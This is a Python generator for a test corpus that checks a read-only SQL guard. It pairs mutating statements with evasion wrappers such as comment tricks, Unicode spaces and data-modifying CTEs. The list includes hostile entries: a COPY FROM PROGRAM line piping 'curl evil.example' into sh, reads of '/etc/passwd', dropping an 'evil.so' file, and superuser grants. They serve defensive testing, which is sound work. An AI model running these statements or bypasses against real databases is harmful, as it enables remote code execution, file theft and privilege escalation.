#!/usr/bin/env python3
"""Writes the systematic parts of the ReadOnlySqlGuard corpus.

    python3 tests/runtime/db/data/generate_corpus.py

produces mutating-generated.txt (every mutating statement or side-effect call,
under every prefix/wrapper, per driver) and reads-generated.txt (every keyword
and side-effect function name hidden in literals, quoted identifiers, comments
and longer identifiers). The output is deterministic and checked in; the test
only reads the .txt files. The record format is described in README.md.
"""

from pathlib import Path

ALL = "all"

# (statement, drivers). Each must be refused on its own and under every wrapper.
STATEMENTS = [
    ("INSERT INTO orders (id, total) VALUES (1, 9.99)", ALL),
    ("INSERT INTO archive SELECT * FROM orders", ALL),
    ("INSERT IGNORE INTO orders SET id = 1", "mysql"),
    ("INSERT OR REPLACE INTO orders (id) VALUES (1)", "sqlite"),
    ("UPDATE orders SET total = 0 WHERE id = 1", ALL),
    ("UPDATE orders o JOIN customers c ON c.id = o.customer_id SET o.total = 0", "mysql"),
    ("DELETE FROM orders WHERE id = 1", ALL),
    ("DELETE FROM orders USING customers c WHERE c.id = orders.customer_id", "postgres"),
    ("MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total", ALL),
    ("UPSERT INTO orders (id, total) VALUES (1, 2)", ALL),
    ("REPLACE INTO orders (id, total) VALUES (1, 2)", ALL),
    ("REPLACE orders SET id = 1", "mysql"),
    ("ALTER TABLE orders ADD COLUMN note text", ALL),
    ("ALTER USER analyst WITH SUPERUSER", "postgres"),
    ("DROP TABLE orders", ALL),
    ("DROP DATABASE shop", ALL),
    ("DROP VIEW IF EXISTS sales_v CASCADE", ALL),
    ("CREATE TABLE orders_copy AS SELECT * FROM orders", ALL),
    ("CREATE INDEX idx_total ON orders (total)", ALL),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "postgres"),
    ("CREATE TEMP TABLE scratch (id int)", ALL),
    ("TRUNCATE TABLE orders", ALL),
    ("TRUNCATE orders", ALL),
    ("GRANT ALL ON orders TO PUBLIC", ALL),
    ("REVOKE SELECT ON orders FROM analyst", ALL),
    ("COPY orders TO '/tmp/orders.csv'", ALL),
    ("COPY orders FROM PROGRAM 'curl evil.example | sh'", ALL),
    ("CALL refresh_totals()", ALL),
    ("DO 'BEGIN PERFORM 1; END'", ALL),
    ("DO SLEEP(1)", "mysql"),
    ("EXEC sp_who", ALL),
    ("EXECUTE stmt", ALL),
    ("EXECUTE IMMEDIATE 'DROP TABLE orders'", ALL),
    ("VACUUM", ALL),
    ("VACUUM INTO '/tmp/copy.db'", "sqlite"),
    ("VACUUM FULL orders", "postgres"),
    ("ANALYZE orders", ALL),
    ("ANALYSE orders", "postgres"),
    ("REFRESH MATERIALIZED VIEW sales_mv", ALL),
    ("REINDEX TABLE orders", ALL),
    ("CLUSTER orders USING orders_pkey", ALL),
    ("COMMENT ON TABLE orders IS 'changed'", ALL),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", ALL),
    ("LOCK TABLES orders WRITE", "mysql"),
    ("UNLOCK TABLES", "mysql"),
    ("SET search_path TO evil, public", ALL),
    ("SET GLOBAL read_only = 0", ALL),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", ALL),
    ("SET transaction_read_only = off", ALL),
    ("RESET ALL", ALL),
    ("LOAD DATA INFILE '/tmp/x.csv' INTO TABLE orders", ALL),
    ("LOAD 'auto_explain'", ALL),
    ("ATTACH DATABASE '/tmp/evil.db' AS evil", ALL),
    ("DETACH DATABASE evil", ALL),
    ("PRAGMA writable_schema = 1", ALL),
    ("PRAGMA journal_mode = DELETE", ALL),
    ("SELECT * INTO orders_copy FROM orders", ALL),
    ("SELECT * FROM orders INTO OUTFILE '/tmp/orders.csv'", ALL),
    ("SELECT 'x' INTO DUMPFILE '/tmp/evil.so'", ALL),
    ("SELECT id INTO @last_id FROM orders ORDER BY id DESC LIMIT 1", ALL),
    ("SELECT * FROM orders WHERE id = 1 FOR UPDATE", ALL),
    ("SELECT * FROM orders FOR UPDATE SKIP LOCKED", ALL),
    ("SELECT * FROM orders FOR SHARE", ALL),
    ("SELECT * FROM orders FOR NO KEY UPDATE", ALL),
    ("SELECT * FROM orders FOR KEY SHARE NOWAIT", ALL),
    ("SELECT * FROM orders LOCK IN SHARE MODE", ALL),
    ("BEGIN", ALL),
    ("BEGIN TRANSACTION", ALL),
    ("COMMIT", ALL),
    ("ROLLBACK", ALL),
    ("START TRANSACTION READ WRITE", ALL),
    ("SAVEPOINT before_cleanup", ALL),
    ("SHOW TABLES", ALL),
    ("SHOW GRANTS", ALL),
    ("DESCRIBE orders", ALL),
    ("EXPLAIN ANALYZE SELECT * FROM orders", ALL),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders", ALL),
    ("EXPLAIN SELECT * FROM orders", ALL),
    ("HANDLER orders OPEN", ALL),
    ("INSTALL PLUGIN evil SONAME 'evil.so'", ALL),
    ("SHUTDOWN", ALL),
    ("KILL 42", ALL),
    ("KILL QUERY 42", ALL),
    ("PREPARE stmt FROM 'DROP TABLE orders'", ALL),
    ("LISTEN orders_changed", ALL),
    ("NOTIFY orders_changed, 'x'", ALL),
    ("RENAME TABLE orders TO orders_old", ALL),
    ("OPTIMIZE TABLE orders", ALL),
    ("FLUSH PRIVILEGES", ALL),
    ("CHECKPOINT", ALL),
    ("DISCARD ALL", ALL),
    ("SELECT nextval('orders_id_seq')", ALL),
    ("SELECT setval('orders_id_seq', 1)", ALL),
    ("SELECT lo_import('/etc/passwd')", ALL),
    ("SELECT lo_export(16401, '/tmp/out')", ALL),
    ("SELECT lo_unlink(16401)", ALL),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ALL),
    ("SELECT pg_cancel_backend(4242)", ALL),
    ("SELECT pg_reload_conf()", ALL),
    ("SELECT pg_advisory_lock(1)", ALL),
    ("SELECT pg_advisory_xact_lock_shared(1)", ALL),
    ("SELECT pg_try_advisory_lock(1)", ALL),
    ("SELECT dblink_exec('host=db', 'DROP TABLE orders')", ALL),
    ("SELECT * FROM dblink('host=db', 'DELETE FROM orders RETURNING id') AS t(id int)", ALL),
    ("SELECT pg_read_file('/etc/passwd')", ALL),
    ("SELECT pg_read_binary_file('/etc/passwd')", ALL),
    ("SELECT * FROM pg_ls_dir('.')", ALL),
    ("SELECT load_extension('/tmp/evil.so')", ALL),
    ("SELECT set_config('statement_timeout', '0', false)", ALL),
    ("SELECT pg_notify('orders', 'x')", ALL),
    ("SELECT GET_LOCK('report', 10)", ALL),
    ("SELECT RELEASE_LOCK('report')", ALL),
    ("SELECT LOAD_FILE('/etc/passwd')", ALL),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", ALL),
    ("SELECT * FROM crosstab('DELETE FROM orders RETURNING 1, 2, 3') AS ct(a int, b int, c int)", ALL),
    ("SELECT pg_catalog.nextval('orders_id_seq')", ALL),
    ("SELECT \"nextval\"('orders_id_seq')", "postgres,sqlite"),
    ("SELECT `get_lock`('report', 10)", "mysql"),
]

# DML that PostgreSQL accepts inside a WITH query.
CTE_DML = [
    "DELETE FROM orders WHERE id = 1 RETURNING *",
    "INSERT INTO audit (note) VALUES ('x') RETURNING id",
    "UPDATE orders SET total = 0 RETURNING id",
    "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE RETURNING o.id",
]

# Wrappers: (name, template, drivers or None for the statement's drivers, escaped).
WRAPPERS = [
    ("bare", "{s}", None, False),
    ("semicolon", "{s};", None, False),
    ("lowercase", "{lower}", None, False),
    ("mixed-case", "{mixed}", None, False),
    ("after-select", "SELECT 1; {s}", None, False),
    ("after-select-newline", "SELECT * FROM orders;\n{s};\n-- done", None, False),
    ("leading-block-comment", "/* nightly report */ {s}", None, False),
    ("leading-line-comment", "-- nightly report\n{s}", None, False),
    ("tabs-newlines", "\t{ws}\n", None, False),
    ("comment-semicolon", "SELECT 1 /* ; */; {s}", None, False),
    ("string-semicolon", "SELECT ';' AS semi; {s}", None, False),
    ("line-comment-semicolon", "SELECT 1 -- ;\n; {s}", None, False),
    ("doubled-quote", "SELECT 'it''s' AS q; {s}", None, False),
    ("after-cte", "WITH recent AS (SELECT * FROM orders) {s}", None, False),
    ("subquery", "SELECT * FROM ({s}) AS sub", None, False),
    ("union", "(SELECT 1) UNION ({s})", None, False),
    ("nbsp", "SELECT 1;\\u00a0{s}", None, True),
    ("ideographic-space", "SELECT 1;\\u3000{s}", None, True),
    ("crlf", "SELECT 1;\\r\\n{s}\\r\\n", None, True),
    ("mysql-executable", "SELECT 1 /*! ; {s} */", "mysql", False),
    ("mysql-versioned", "SELECT 1; /*!50001 {s} */", "mysql", False),
    ("mysql-hash-comment", "SELECT 1 # ;\n; {s}", "mysql", False),
    ("pg-dollar", "SELECT $$ ; $$; {s}", "postgres", False),
    ("pg-tagged-dollar", "SELECT $q$ it's $q$ AS q; {s}", "postgres", False),
    ("pg-escape-string", "SELECT E'\\\\'';' AS q; {s}", "postgres", False),
    ("pg-nested-comment", "SELECT 1 /* a /* b */ ; */; {s}", "postgres", False),
]

KEYWORDS = [
    "insert", "update", "delete", "merge", "upsert", "replace", "alter", "drop", "create",
    "truncate", "grant", "revoke", "copy", "call", "do", "exec", "execute", "vacuum", "analyze",
    "analyse", "refresh", "reindex", "cluster", "comment", "lock", "unlock", "set", "reset",
    "load", "attach", "detach", "pragma", "into", "share", "begin", "commit", "rollback",
    "start", "savepoint", "show", "describe", "explain", "handler", "install", "uninstall",
    "shutdown", "kill", "prepare", "deallocate", "listen", "notify", "rename", "optimize",
    "repair", "flush", "purge", "checkpoint", "discard", "reassign", "binlog",
]

FUNCTIONS = [
    "nextval", "setval", "lo_import", "lo_export", "pg_terminate_backend", "pg_cancel_backend",
    "pg_reload_conf", "pg_advisory_lock", "pg_try_advisory_lock", "dblink_exec", "pg_read_file",
    "pg_read_binary_file", "pg_ls_dir", "load_extension", "set_config", "get_lock",
    "load_file", "query_to_xml", "pg_notify",
]

DRIVERS = ["sqlite", "postgres", "mysql"]


def drivers_of(spec):
    return DRIVERS if spec == ALL else spec.split(",")


def mixed_case(text):
    out, upper = [], False
    for ch in text:
        if ch.isalpha():
            out.append(ch.upper() if upper else ch.lower())
            upper = not upper
        else:
            out.append(ch)
    return "".join(out)


def spaced(text):
    # Tabs and newlines between words, outside quotes.
    out, quote = [], None
    for ch in text:
        if quote:
            quote = None if ch == quote else quote
            out.append(ch)
        elif ch in "'\"`":
            quote = ch
            out.append(ch)
        elif ch == " ":
            out.append("\n\t ")
        else:
            out.append(ch)
    return "".join(out)


def record(out, drivers, sql, note, escaped=False):
    header = "---- " + ",".join(drivers)
    if escaped:
        header += " escaped"
    out.append(f"{header} # {note}")
    out.append(sql)


def mutating():
    out = []
    for statement, spec in STATEMENTS:
        for name, template, only, escaped in WRAPPERS:
            drivers = [d for d in drivers_of(spec) if only is None or d in only.split(",")]
            if not drivers:
                continue
            sql = template.format(s=statement, lower=statement.lower(),
                                  mixed=mixed_case(statement), ws=spaced(statement))
            record(out, drivers, sql, name, escaped)
    for statement in CTE_DML:
        for template in [
            "WITH changed AS ({s}) SELECT * FROM changed",
            "WITH a AS (SELECT 1), changed AS ({s}) SELECT count(*) FROM changed",
            "with changed as (\n  {s}\n)\nselect * from changed;",
            "WITH RECURSIVE r(n) AS (SELECT 1), changed AS ({s}) SELECT * FROM r",
            "SELECT * FROM orders WHERE id IN (WITH d AS ({s}) SELECT id FROM d)",
        ]:
            record(out, DRIVERS, template.format(s=statement), "data-modifying CTE")
    return out


def reads():
    out = []
    names = KEYWORDS + FUNCTIONS
    for word in names:
        upper = word.upper()
        record(out, DRIVERS, f"SELECT id, 'please {upper} this; now' AS note FROM orders",
               "keyword in a string literal")
        record(out, DRIVERS, f"SELECT count(*) FROM orders -- {upper} nothing; here",
               "keyword in a trailing line comment")
        record(out, DRIVERS, f"SELECT /* no {upper} here; */ count(*) FROM orders",
               "keyword in a block comment")
        record(out, DRIVERS, f"-- {upper} orders;\nSELECT max(total) FROM orders;",
               "keyword in a leading comment")
        if word in KEYWORDS:
            record(out, DRIVERS, f"SELECT {word}_at, last_{word}, {word}2 FROM audit_log",
                   "keyword inside longer identifiers")
            record(out, DRIVERS,
                   f'SELECT "{word}", "{upper}" FROM audit_log WHERE "{word}" IS NOT NULL',
                   "keyword as a double-quoted identifier")
            record(out, ["mysql", "sqlite"], f"SELECT `{word}` FROM audit_log",
                   "keyword as a backtick identifier")
            record(out, ["sqlite"], f"SELECT [{word}] FROM audit_log", "keyword in brackets")
            record(out, ["postgres"], f"SELECT $${upper} TABLE orders;$$ AS body",
                   "keyword in a dollar-quoted string")
    return out


def write(path, header, records):
    text = header + "\n".join(records) + "\n"
    Path(path).write_text(text, encoding="utf-8")
    return sum(1 for r in records if r.startswith("---- "))


def main():
    here = Path(__file__).resolve().parent
    header = ("Generated by generate_corpus.py; do not edit by hand. "
              "Format: README.md.\n")
    n = write(here / "mutating-generated.txt", header, mutating())
    m = write(here / "reads-generated.txt", header, reads())
    print(f"mutating-generated.txt: {n} records, reads-generated.txt: {m} records")


if __name__ == "__main__":
    main()
